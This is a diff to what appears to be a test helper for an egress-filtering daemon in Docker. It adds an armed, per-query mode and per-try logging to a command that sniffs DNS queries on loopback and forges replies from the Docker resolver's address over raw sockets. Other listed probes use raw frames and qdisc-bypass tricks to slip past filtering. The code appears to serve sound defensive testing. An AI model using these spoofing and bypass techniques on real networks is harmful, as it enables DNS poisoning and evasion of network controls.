@@ -21,10 +21,12 @@ decides pass or fail: the test does.
                                         IP_TRANSPARENT) to TARGET:PORT sends one datagram over
                                         loopback to our own address; then our socket sends to
                                         TARGET:PORT (the conntrack "reply" direction); echo?
-  sniff-answer FORGED SECONDS           sniff egressd's queries to Docker's resolver on lo (after
+  sniff-answer FORGED SECONDS [--armed] sniff egressd's queries to Docker's resolver on lo (after
                                         the DNAT: 127.0.0.11:<its real port>) and answer each from
                                         that address and port over a raw socket, ID and case
-                                        copied, with FORGED; report tries and send errors
+                                        copied, with FORGED; a line per try (its send error),
+                                        then the tries and send errors. --armed: only the next
+                                        new query after each `arm` line; `done` ends it
   raw-frame DSTMAC DST PORT TOKEN       issue 14 class 5: AF_PACKET frames (plain and with
                                         PACKET_QDISC_BYPASS) carrying UDP to DST:PORT
   zerocopy-http ADDR PORT SHOWN SENT [GO_FILE]
@@ -429,20 +431,31 @@ def checksum(data):
 
 def cmd_sniff_answer(args):
     forged, seconds = args[0], float(args[1])
+    armed_mode = "--armed" in args[2:]
     sniff = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
     sniff.bind(("lo", 0))
-    sniff.settimeout(0.02)
+    sniff.setblocking(False)
     raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
     resolver = socket.inet_aton(DOCKER_DNS)
     with open("/proc/self/cgroup") as f:
         cgroup = [l for l in f.read().splitlines() if l.startswith("0::")]
     out({"uid": os.getuid(), "cgroup": cgroup})
     seen, tried, sent, errors = set(), 0, 0, set()
+    armed = 0   # --armed: forge only the next `armed` new queries (one per "arm" line on stdin)
     deadline = time.monotonic() + seconds
     while time.monotonic() < deadline:
+        readable, _, _ = select.select([sniff, sys.stdin] if armed_mode else [sniff], [], [], 0.02)
+        if sys.stdin in readable:
+            line = sys.stdin.readline().strip()
+            if line == "arm":
+                armed += 1
+            elif line in ("done", ""):
+                break
+        if sniff not in readable:
+            continue
         try:
             frame = sniff.recv(65535)
-        except socket.timeout:
+        except BlockingIOError:
             continue
         pkt = frame[14:]
         if len(pkt) < 40 or pkt[9] != 17 or pkt[16:20] != resolver:
@@ -453,6 +466,10 @@ def cmd_sniff_answer(args):
         if dport == 53 or len(q) < 17 or q[2] & 0x80 or (sport, q[:2]) in seen:
             continue
         seen.add((sport, q[:2]))
+        if armed_mode:
+            if armed == 0:
+                continue
+            armed -= 1
         try:
             a = forged_answer(q, forged, ttl=300)
         except (IndexError, struct.error):
@@ -463,8 +480,10 @@ def cmd_sniff_answer(args):
         try:
             raw.sendto(ip + udp, (socket.inet_ntoa(pkt[12:16]), 0))
             sent += 1
+            out({"try": tried, "port": sport, "error": None})
         except OSError as e:
             errors.add(err_name(e))
+            out({"try": tried, "port": sport, "error": err_name(e)})
     out({"tried": tried, "sent": sent, "errors": sorted(errors)})
 
 
